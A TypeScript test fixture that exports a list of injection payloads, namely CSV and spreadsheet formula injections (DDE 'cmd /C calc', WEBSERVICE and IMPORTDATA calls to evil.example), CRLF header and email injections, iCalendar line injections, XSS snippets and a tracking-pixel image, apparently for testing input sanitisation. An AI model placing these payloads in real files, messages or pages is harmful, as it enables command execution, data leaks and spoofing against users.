import { EVIL } from '../hostile-addresses.ts';

const load = `https://${EVIL}/x`;

const formulas = [
  '=1300*1300',
  '+1300*1300',
  '-1300*1300',
  '@SUM(1300*1300)',
  '=HYPERLINK("https://evil.example/x","x")',
  '=IMPORTXML("https://evil.example/x","//a")',
  '=WEBSERVICE("https://evil.example/x")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '@IMPORTDATA("https://evil.example/x")',
  '-2+3+cmd|x!A1',
  '＝1300*1300',
  '＋1300*1300',
  '－1300*1300',
  '＠SUM(1300*1300)',
  '","=1300*1300',
  '"\n=1300*1300\n"',
  ';=1300*1300',
  '=1300*1300,=1300*1300',
];

const lines = [
  'x\r\nSet-Cookie: evil=1',
  'x\nLocation: //evil.example',
  'x\r\n\r\n<x-evil>',
  'x\r\nBcc: b@evil.example',
  'x\r\nSubject: evil',
  'x\nContent-Type: text/html\n\n<x-evil>',
  'x%0d%0aSet-Cookie:%20evil=1',
  'x\\r\\nBcc: b@evil.example',
  'a@evil.example, b@evil.example',
  '"x" <b@evil.example>',
  '=?utf-8?B?PHgtZXZpbD4=?=',
  '.\r\nMAIL FROM:<a@evil.example>',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil',
  'x\nATTACH:https://evil.example/x',
  'x\\nURL:https://evil.example/x',
  'x;ALTREP="https://evil.example/x":y',
  'x\r\n BEGIN:VALARM',
  '<html><body onload=alert(1)><x-evil></body></html>',
  '<img src=cid:x onerror=alert(1)>',
  `<img src=${load} width=1 height=1>`,
  'x\nlevel=error message="evil"',
  '{"level":"error","message":"evil"}',
  'WEBVTT\n\n00:00.000 --> 99:00.000\n<x-evil>',
  '#EXTINF:1,\nhttps://evil.example/x',
];

export const formulasAndLines = [...formulas, ...lines];
